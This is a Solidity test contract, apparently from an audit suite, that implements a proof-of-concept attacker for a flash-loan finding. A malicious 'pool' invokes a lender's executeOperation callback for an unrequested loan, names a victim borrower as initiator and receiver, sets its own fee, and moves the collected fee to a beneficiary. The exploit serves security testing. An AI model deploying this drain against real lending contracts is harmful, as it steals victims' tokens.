// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IFlashLoanSimpleReceiver} from "../../interfaces/IFlashLoanReceiver.sol";

/// @title MaliciousFlashPool
/// @notice Test-only attacker for finding 4 (issue 10): a "pool" that governance (or a captured proposal) points the
///         ERC-3156 lender at with `setPool`. It calls the lender's Aave-style callback for a loan nobody asked for,
///         naming a victim borrower as both the ERC-3156 initiator and receiver, with a fee of its choosing, then
///         takes the `amount + fee` the lender collected from the victim and approved to it.
contract MaliciousFlashPool {
    /// @notice Runs the attack: the lender pulls `fee` from `victim` (which approves whatever fee its trusted lender
    ///         reports for a loan "it started") and approves it to this contract, which sends it to `beneficiary`.
    function drain(address lender, address token, uint256 fee, address victim, address beneficiary) external {
        bytes memory params = abi.encode(victim, victim, bytes(""));
        IFlashLoanSimpleReceiver(lender).executeOperation(token, 0, fee, lender, params);
        IERC20(token).transferFrom(lender, beneficiary, fee);
    }
}
